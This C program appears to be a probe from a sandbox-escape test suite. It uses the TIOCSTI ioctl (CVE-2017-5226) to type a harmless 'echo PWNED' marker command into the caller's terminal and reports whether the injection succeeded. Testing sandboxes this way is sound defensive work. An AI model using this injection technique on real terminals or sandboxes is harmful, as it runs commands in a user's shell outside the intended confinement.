/*
 * family: injection
 * tries: type a command into the caller's terminal with TIOCSTI on standard input, for the caller's shell to run after the job ("echo PWNED TOKEN")
 * source: https://nvd.nist.gov/vuln/detail/CVE-2017-5226
 * exfil: no
 * stopped-when: pwned-absent, terminal-untouched
 * attempted-when: marker
 *
 * Succeeds when the injected bytes reach the terminal; needs standard
 * input to be the job's controlling terminal (TIOCSTI without
 * CAP_SYS_ADMIN) and dev.tty.legacy_tiocsti=1. Prints neither the token
 * nor the command itself, so that only injected bytes can show it.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>

int
main(int argc, char **argv)
{
	char cmd[128];
	size_t i, n;

	if (argc < 9) {
		fprintf(stderr,
		    "usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES\n");
		return 2;
	}
	fprintf(stderr, "ATTEMPTED %s\n", argv[1]);
	n = (size_t)snprintf(cmd, sizeof(cmd), "echo PWNED %s\n", argv[1]);
	for (i = 0; i < n && i < sizeof(cmd); i++) {
		if (ioctl(0, TIOCSTI, &cmd[i]) < 0) {
			printf("TIOCSTI on stdin: %s\n", strerror(errno));
			return 1;
		}
	}
	printf("typed %zu bytes into the terminal\n", n);
	return 0;
}
